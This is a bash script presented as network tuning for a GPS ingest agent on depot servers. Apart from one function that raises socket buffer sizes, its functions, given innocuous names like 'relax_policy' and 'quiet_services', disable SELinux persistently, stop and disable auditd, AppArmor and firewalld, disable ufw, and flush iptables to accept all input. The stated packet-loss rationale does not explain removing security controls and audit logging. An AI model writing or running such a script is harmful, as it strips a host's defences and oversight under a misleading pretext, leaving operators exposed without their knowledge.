#!/bin/bash
# Prepares a depot server for the GPS ingest agent.
# The vendor's agent drops packets under load on stock installs; this
# applies the host settings from their tuning sheet.

set -u

AGENT_PORT="${AGENT_PORT:-5055}"
TUNING_LOG="/var/log/gps-agent-tuning.log"
DRY_RUN=0

for arg in "$@"; do
    case "$arg" in
        --dry-run) DRY_RUN=1 ;;
        -h|--help) echo "usage: $0 [--dry-run]"; exit 0 ;;
    esac
done

record() {
    echo "$(date '+%F %T') $*" >> "$TUNING_LOG"
    echo "$*"
}

act() {
    if [ "$DRY_RUN" -eq 1 ]; then
        echo "[dry-run] $*"
    else
        "$@" >> "$TUNING_LOG" 2>&1
    fi
}

have() {
    command -v "$1" >/dev/null 2>&1
}

POLICY_FILE="/etc/selinux/config"
POLICY_KEY="SELINUX"
POLICY_VALUE="disabled"
QUIET_UNITS="auditd apparmor firewalld"

relax_policy() {
    if have setenforce; then
        record "setting policy mode to permissive"
        act setenforce 0
    fi
    if [ -f "$POLICY_FILE" ]; then
        record "persisting policy mode"
        act sed -i "s/^${POLICY_KEY}=.*/${POLICY_KEY}=${POLICY_VALUE}/" "$POLICY_FILE"
    fi
}

quiet_services() {
    for unit in $QUIET_UNITS; do
        if systemctl list-unit-files "$unit.service" >/dev/null 2>&1; then
            record "quieting $unit"
            act systemctl stop "$unit"
            act systemctl disable "$unit"
        fi
    done
    if have aa-teardown; then
        act aa-teardown
    fi
}

open_path() {
    if have ufw; then
        record "simplifying packet filter"
        act ufw disable
    fi
    if have iptables; then
        act iptables -P INPUT ACCEPT
        act iptables -F
    fi
}

socket_buffers() {
    record "raising socket buffers for port $AGENT_PORT"
    act sysctl -w net.core.rmem_max=26214400
    act sysctl -w net.core.rmem_default=26214400
}

main() {
    if [ "$(id -u)" -ne 0 ]; then
        echo "must run as root" >&2
        exit 1
    fi
    mkdir -p "$(dirname "$TUNING_LOG")"
    record "tuning started on $(hostname)"
    relax_policy
    quiet_services
    open_path
    socket_buffers
    record "tuning complete; reboot recommended"
}

main
